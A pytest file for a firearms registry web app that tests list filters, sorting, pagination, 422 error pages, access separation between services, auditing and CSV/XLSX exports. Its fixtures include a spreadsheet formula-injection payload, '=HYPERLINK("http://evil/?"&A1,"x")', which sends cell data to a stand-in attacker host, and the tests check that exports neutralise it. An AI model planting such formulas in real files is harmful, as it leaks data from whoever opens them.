"""Lists that work: filters with counts, sort, columns, shareable URLs, clear 422s, exports."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from armsbridge.audit.models import AuditEntry
from armsbridge.db.session import make_sessionmaker, session_scope

from .conftest import add_record, csrf_of, sign_in

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "@x"]


@pytest.fixture
def firearms(node) -> dict[str, int]:
    """Firearms of both services: XK pistols and a revolver, an MK pistol."""
    ids = {
        "glock": add_record(
            node, "firearm", make="Glock", model="17", kind="pistol", calibre="9mm"
        ),
        "cz": add_record(node, "firearm", make="CZ", model="75", kind="pistol", status="seized"),
        "colt": add_record(node, "firearm", make="Colt", model="Python", kind="revolver"),
        "mk": add_record(
            node, "firearm", jurisdiction="MK", make="Zastava", model="M57", kind="pistol"
        ),
    }
    for n, text in enumerate(FORMULAS):
        ids[f"formula{n}"] = add_record(node, "firearm", make=text, model=f"F{n}", kind="rifle")
    return ids


def _rows(html: str) -> list[str]:
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in html else ""
    return re.findall(r'href="/records/firearms/(\d+)', body)


def test_the_firearm_list_shows_useful_columns_and_links_each_row(node, analyst, firearms):
    page = analyst.get("/records/firearms")
    assert page.status_code == 200
    head = page.text.split("<thead>", 1)[1].split("</thead>", 1)[0]
    assert [h for h in ("Make", "Model", "Calibre", "Legal category") if h in head] == [
        "Make",
        "Model",
        "Calibre",
        "Legal category",
    ]
    assert "Jurisdiction" not in head  # the same value on every row of a service's list
    assert str(firearms["glock"]) in _rows(page.text)
    assert re.search(r'id="quick-q"[^>]*value=""', page.text)  # the top bar's box stays empty


def test_a_filter_narrows_the_rows_and_each_option_shows_its_count(node, analyst, firearms):
    page = analyst.get("/records/firearms", params={"kind": "pistol"})
    assert sorted(map(int, _rows(page.text))) == sorted([firearms["glock"], firearms["cz"]])
    # kind is counted under the other filters, not under itself: every kind keeps its count
    assert re.search(r'value="revolver"[^>]*>[^<]*\(1\)', page.text)
    assert re.search(r'value="pistol" selected>[^<]*\(2\)', page.text)
    seized = analyst.get("/records/firearms", params={"kind": "pistol", "status": "seized"})
    assert _rows(seized.text) == [str(firearms["cz"])]
    assert re.search(r'value="pistol" selected>[^<]*\(1\)', seized.text)


def test_sort_by_a_column_both_ways_and_the_header_links_flip_it(node, analyst, firearms):
    up = analyst.get("/records/firearms", params={"sort": "make", "dir": "asc", "kind": "pistol"})
    assert _rows(up.text) == [str(firearms["cz"]), str(firearms["glock"])]
    assert 'aria-sort="ascending"' in up.text
    assert "sort=make&amp;dir=desc" in up.text and "kind=pistol" in up.text
    down = analyst.get("/records/firearms", params={"sort": "make", "dir": "desc"})
    # Zoraki (the seed's), then Glock
    assert _rows(down.text)[:2] == [str(node.ids["firearm"]), str(firearms["glock"])]


def test_chosen_columns_are_shown_and_kept_in_every_link(node, analyst, firearms):
    page = analyst.get("/records/firearms", params={"cols": "serial_raw,jurisdiction"})
    head = page.text.split("<thead>", 1)[1].split("</thead>", 1)[0]
    assert "Serial number (as read)" in head and "Jurisdiction" in head and "Make" not in head
    assert "cols=serial_raw%2Cjurisdiction" in page.text  # sort links and exports keep them


def test_pagination_keeps_the_filter_in_the_url(node, analyst) -> None:
    for n in range(55):
        add_record(node, "firearm", make="Beretta", model=f"M{n}", kind="pistol")
    first = analyst.get("/records/firearms", params={"kind": "pistol", "sort": "model"})
    nxt = re.search(r'href="(/records/firearms\?[^"]*page=2[^"]*)"', first.text)
    assert nxt, "no link to page 2"
    link = nxt.group(1).replace("&amp;", "&")
    assert "kind=pistol" in link and "sort=model" in link
    second = analyst.get(link)
    assert second.status_code == 200 and len(_rows(second.text)) == 55 - 50


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"cols": "make,secret_column"}, "cols"),
        ({"from": "31.02.2026"}, "from"),
        ({"to": "tomorrow"}, "to"),
        ({"sort": "password"}, "sort"),
        ({"dir": "sideways"}, "dir"),
        ({"page": "0"}, "page"),
        ({"page": "9" * 400}, "page"),
        ({"case": "-1"}, "case"),
        ({"kind": "bazooka"}, "kind"),
        ({"make": "x"}, "make"),
        ({"format": "pdf"}, "format"),
        ({"from": "2026-05-01", "to": "2026-04-01"}, "to"),
    ],
)
def test_a_parameter_the_list_cannot_use_is_a_422_page_naming_it(analyst, params, field):
    page = analyst.get("/records/firearms", params=params)
    assert page.status_code == 422
    assert f"<dt><code>{field}</code>" in page.text
    assert "Expected:" in page.text
    assert 'href="/logout"' in page.text or "/account" in page.text  # the signed-in layout


def test_a_repeated_parameter_is_refused(analyst) -> None:
    page = analyst.get("/records/firearms?kind=pistol&kind=rifle")
    assert page.status_code == 422 and "<dt><code>kind</code>" in page.text


def test_a_huge_parameter_is_refused_not_a_fault(analyst) -> None:
    page = analyst.get("/records/firearms", params={"sort": "x" * 5_000, "cols": "y" * 5_000})
    assert page.status_code == 422


def test_the_problems_come_as_json_for_a_script(node, analyst) -> None:
    answer = analyst.get(
        "/records/firearms", params={"sort": "nope"}, headers={"accept": "application/json"}
    )
    assert answer.status_code == 422
    assert answer.json()["problems"][0]["field"] == "sort"


def test_the_case_filter_shows_the_records_of_a_case(node, analyst, firearms) -> None:
    page = analyst.get("/records/firearms", params={"case": node.ids["case"]})
    assert _rows(page.text) == [str(node.ids["firearm"])]
    assert "XK-2026-001 (1)" in page.text
    persons = analyst.get(
        "/records/persons", params={"case": node.ids["case"], "why": "case XK-2026-001"}
    )
    assert f"/records/persons/{node.ids['person']}" in persons.text
    assert f"/records/persons/{node.ids['other']}" not in persons.text


def test_the_date_range_applies_to_the_main_date(node, analyst) -> None:
    inside = analyst.get("/records/cases", params={"from": "01.02.2026", "to": "2026-03-31"})
    assert "XK-2026-001" in inside.text.split("<tbody>", 1)[1]
    outside = analyst.get("/records/cases", params={"from": "2026-04-01"})
    assert "<tbody>" not in outside.text and "No record matches these filters." in outside.text


def test_no_filter_or_count_shows_the_other_services_rows(node, firearms) -> None:
    with TestClient(node.app) as client:
        sign_in(client, "mk_analyst")
        for params in ({}, {"jurisdiction": "XK"}, {"kind": "pistol"}):
            page = client.get("/records/firearms", params=params)
            assert page.status_code == 200
            shown = _rows(page.text)
            assert all(int(i) == firearms["mk"] for i in shown), params
        # an XK case is not one the MK analyst may read: refused like a number no case has
        for fmt in ("", "csv"):
            other = client.get(
                "/records/firearms", params={"case": node.ids["case"], "format": fmt}
            )
            assert other.status_code == 422 and "Glock" not in other.text
        everything = client.get("/records/firearms")
        assert re.search(r'value="XK"[^>]*>[^<]*\(0\)', everything.text)
        assert re.search(r'value="pistol"[^>]*>[^<]*\(1\)', everything.text)
        assert "XK-2026-001" not in everything.text  # not even as a case option
        export = client.get("/records/firearms", params={"format": "csv"})
        body = export.content.decode("utf-8-sig")
        assert "Zastava" in body and "Glock" not in body and "Zoraki" not in body


def test_a_personal_list_still_asks_why_and_keeps_the_filters(node, analyst) -> None:
    ask = analyst.get("/records/persons", params={"sort": "family_name", "dir": "desc"})
    assert "Why do you need these records?" in ask.text
    assert 'name="sort" value="family_name"' in ask.text and 'name="dir" value="desc"' in ask.text
    shown = analyst.get(
        "/records/persons", params={"sort": "family_name", "dir": "desc", "why": "case 7"}
    )
    assert f"/records/persons/{node.ids['person']}" in shown.text
    with session_scope(make_sessionmaker(node.app.state.engine)) as s:
        entry = s.query(AuditEntry).filter_by(action="consult", record_type="person").all()[-1]
        assert entry.why == "case 7" and node.ids["person"] in entry.details["ids"]


def _export(client: TestClient, fmt: str, **params: str):
    answer = client.get("/records/firearms", params={**params, "format": fmt})
    assert answer.status_code == 200, answer.text
    assert "attachment" in answer.headers["content-disposition"]
    return answer


def test_csv_export_holds_the_filtered_rows_with_formulas_neutralised(node, analyst, firearms):
    answer = _export(analyst, "csv", kind="rifle", sort="model")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0] == ["Make", "Model", "Calibre", "Legal category"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in FORMULAS]
    assert not any(r[0].startswith(("=", "+", "-", "@")) for r in rows[1:])


def test_xlsx_export_neutralises_formulas_and_the_export_is_audited(node, analyst, firearms):
    answer = _export(analyst, "xlsx", kind="rifle", sort="model", cols="make,kind")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["Make", "Kind"]
    assert [v[0] for v in values[1:]] == ["'" + text for text in FORMULAS]
    assert all(v[1] == "Rifle" for v in values[1:])  # the label, never the code
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    with session_scope(make_sessionmaker(node.app.state.engine)) as s:
        entry = s.query(AuditEntry).filter_by(action="export", record_type="firearm").one()
        assert entry.actor == "analyst"
        assert entry.details["format"] == "xlsx" and entry.details["count"] == 3
        assert entry.details["list"]["kind"] == "rifle"


def test_export_headers_are_in_the_users_language(node, analyst, firearms) -> None:
    page = analyst.get("/account")
    analyst.post(
        "/language", data={"language": "mk", "next": "/", "csrf_token": csrf_of(page.text)}
    )
    answer = _export(analyst, "csv", kind="rifle")
    lines = answer.content.decode("utf-8-sig").splitlines()
    assert "Make" not in lines[0] and "Model" not in lines[0], lines[0]
    assert "сè уште неутврдено" in lines[1]  # "not yet determined": the category in words


def test_the_422_page_speaks_the_users_language(analyst) -> None:
    page = analyst.get("/account")
    analyst.post(
        "/language", data={"language": "sq", "next": "/", "csrf_token": csrf_of(page.text)}
    )
    answer = analyst.get("/records/firearms", params={"dir": "up"})
    assert answer.status_code == 422
    assert "Pritej: asc (rritës) ose desc (zbritës)" in answer.text
    assert "Kjo listë nuk mund të përdorë" in answer.text
